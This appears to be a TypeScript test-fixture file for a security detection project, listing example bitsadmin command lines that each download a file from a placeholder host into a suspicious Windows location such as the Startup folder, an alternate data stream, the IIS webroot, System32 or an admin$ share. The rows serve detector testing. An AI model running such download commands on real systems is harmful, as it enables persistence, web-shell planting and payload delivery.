import type { Example } from '../signal.js';

const to = (path: string): readonly Example[] => [{ process_name: 'bitsadmin.exe', process: `bitsadmin /transfer job https://files.example.net/a ${path}` }];

/** Rows that show each signal of the family; the tests run them. No bundle carries them. */
export const destinationExamples: Readonly<Record<string, readonly Example[]>> = {
  'destination-startup': to('"C:\\Users\\pat\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"'),
  'destination-stream': to('C:\\d\\a.txt:b.exe'),
  'destination-webroot': to('C:\\inetpub\\wwwroot\\a.aspx'),
  'destination-system': to('C:\\Windows\\System32\\a.dll'),
  'destination-admin-share': to('\\\\srv07\\admin$\\a'),
  'destination-script': to('C:\\d\\a.ps1'),
  'destination-program': to('C:\\d\\a.exe'),
  'destination-user-program': to('C:\\Users\\pat\\AppData\\Roaming\\a.exe'),
  'destination-staging': to('C:\\Users\\Public\\a'),
  'destination-user-folder': to('C:\\ProgramData\\a'),
};
